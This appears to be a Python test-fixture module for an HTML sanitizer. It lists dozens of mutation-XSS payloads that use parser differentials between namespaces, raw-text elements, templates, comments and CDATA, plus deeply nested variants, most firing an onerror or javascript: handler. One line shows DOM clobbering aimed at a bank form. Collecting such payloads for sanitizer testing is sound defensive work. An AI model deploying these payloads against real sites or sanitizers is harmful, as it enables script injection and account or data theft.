"""HTML that is one thing where it is cleaned and another where it is shown: elements that change their parser.

`{js}` and `{url}` stand for what `hostile_html` puts there.
"""

MUTATIONS = """
<noscript><p title="</noscript><img src=x onerror={js}>">
<style><p title="</style><img src=x onerror={js}>"></style>
<textarea><p title="</textarea><img src=x onerror={js}>">
<title><p title="</title><img src=x onerror={js}>">
<xmp><p title="</xmp><img src=x onerror={js}>">
<iframe><p title="</iframe><img src=x onerror={js}>">
<noembed><p title="</noembed><img src=x onerror={js}>">
<svg></p><style><a id="</style><img src=x onerror={js}>">
<svg><style><img src=x onerror={js}></style></svg>
<svg><p><style><g title="</style><img src=x onerror={js}>">
<svg><desc><noscript></desc></svg><p title="</noscript><img src=x onerror={js}>">
<svg><foreignObject><p><style></p><img src=x onerror={js}></style></foreignObject></svg>
<svg><title><svg><style><a title="</style><img src=x onerror={js}>"></svg></title></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">
<math><mi><p><mglyph><svg><mtext><style><a title="</style><img src=x onerror={js}>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>
<math><annotation-xml encoding="text/html"><style><img src=x onerror={js}></style></annotation-xml></math>
<math><annotation-xml encoding=x><svg><style><a title="</style><img src=x onerror={js}>">
<select><style></select><img src=x onerror={js}></style>
<table><caption><svg><style></caption></table><img src=x onerror={js}></style>
<a><table><a href="javascript:{js}"><td><a>x
<b><table><i><img src=x onerror={js}></b></table>
<p><svg><p><img src=x onerror={js}>
<option><style></option></select><img src=x onerror={js}></style>
<img alt="<x" title="/><img src=x onerror={js}>">
<a title='"><img src=x onerror={js}>'>a</a>
<p title="&quot;&gt;&lt;img src=x onerror={js}&gt;">a</p>
&lt;img src=x onerror={js}&gt; &amp;lt;script&amp;gt;
<output class=x id="panel-1" name=body>[goes to bank.example]</output><img name=body src=x>
<div><a href="https://x.example" title='"><script>{js}</script>'>www.y.example</a></div>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror={js}>">
<math><mtext><table><malignmark><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">
<math><mtext><mglyph><style><math><table id="</table></style><img src=x onerror={js}>">
<math><mo><mglyph></mo><p><style></p></math><img src=x onerror={js}></style>
<svg><desc><style><image title="</style><img src=x onerror={js}>"></desc></svg>
<svg><title><style><p title="</style><img src=x onerror={js}>"></title></svg>
<svg><foreignObject><math><style><img title="</style><img src=x onerror={js}>"></math></foreignObject></svg>
<svg><foreignObject><svg><desc><p><style></svg><img src=x onerror={js}></style>
<math><annotation-xml encoding="application/xhtml+xml"><svg><style><p title="</style><img src=x onerror={js}>">
<math><annotation-xml encoding="TEXT/HTML"><p><math><style></p><img src=x onerror={js}></style>
<math><annotation-xml><foreignObject><style><!--</style><p title="--><img src=x onerror={js}>">
<select><template><style><!--</template></select><img src=x onerror={js}>--></style>
<select><noscript><p title="</noscript></select><img src=x onerror={js}>">
<select><option><svg><style></option></select><img src=x onerror={js}></style>
<select><button><selectedcontent><style></select><img src=x onerror={js}></style>
<template><style></template><img src=x onerror={js}></style>
<template><table><tr><template></table><img src=x onerror={js}></template>
<table><colgroup><template><svg><style></template></colgroup><img src=x onerror={js}></style></table>
<table><a href=x><svg><style></table><img src=x onerror={js}></style>
<table><tr><td><svg><desc><td><style></table><img src=x onerror={js}></style>
<noscript><svg><style></noscript><img src=x onerror={js}></style>
<noscript><style></noscript><img src=x onerror={js}></style>
<noscript><template></noscript><img src=x onerror={js}></template>
<a><svg><desc><a><style></a><img src=x onerror={js}></style>
<nobr><svg><foreignObject><nobr><style></nobr><img src=x onerror={js}></style>
<button><svg><desc><button><style></button><img src=x onerror={js}></style>
<h1><svg><desc><h2><style></h1><img src=x onerror={js}></style>
<ruby><rtc><rp><svg><style></ruby><img src=x onerror={js}></style>
<svg><font color=x><style><a title="</style><img src=x onerror={js}>">
<math><font face=x><style><a title="</style><img src=x onerror={js}>">
<svg><p><math><style><!--</style><img src=x onerror={js}>-->
<svg><![CDATA[<style><a title="]]></style><img src=x onerror={js}>">
<math><![CDATA[><img src=x onerror={js}>]]></math><svg><![CDATA[></svg><img src=x onerror={js}>]]>
<svg><style>&lt;/style&gt;&lt;img src=x onerror={js}&gt;</style></svg>
<svg><script/><style></script><img src=x onerror={js}></style></svg>
<xmp><svg><style></xmp><img src=x onerror={js}></style>
<noframes><p title="</noframes><img src=x onerror={js}>">
<comment><p title="</comment><img src=x onerror={js}>">
<listing>
&lt;img src=x onerror={js}&gt;</listing><plaintext>&lt;img src=x onerror={js}&gt;
<frameset><svg><style></frameset><img src=x onerror={js}></style>
<image><svg><image><style></svg><img src=x onerror={js}></style>
<svg></br><style><a title="</style><img src=x onerror={js}>"></svg>
<svg></p><p><style><a title="</style><img src=x onerror={js}>">
<!---><img src=x onerror={js}>--><!--!><img src=x onerror={js}>--><!-- --!><img src=x onerror={js}>-->
<?a title="><img src=x onerror={js}>"?></ title="><img src=x onerror={js}>"><!a title="><img src=x onerror={js}>">
<img src=`x`onerror={js}><p title="`` onfocus={js} autofocus tabindex=0">a</p>
<font color="&quot; onmouseover={js} x=&quot;">a</font><p title='&#39; onmouseover={js} x=&#39;'>a</p>
<p id="x" xmlns:onload="{js}" xml:base="javascript:{js}//" is="x" slot=y>a</p>
"""

DEEP = f"""
{"<b>" * 520}<svg><desc><style><a title="</style><img src=x onerror={{js}}>">
{"<div>" * 520}<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={{js}}&gt;">
{"<svg><desc>" * 260}<noscript><p title="</noscript><img src=x onerror={{js}}>">
{"<table><tr><td>" * 180}<svg><style></table><img src=x onerror={{js}}></style>
"""
"""Beyond the depth at which browsers put elements beside each other instead of into each other."""
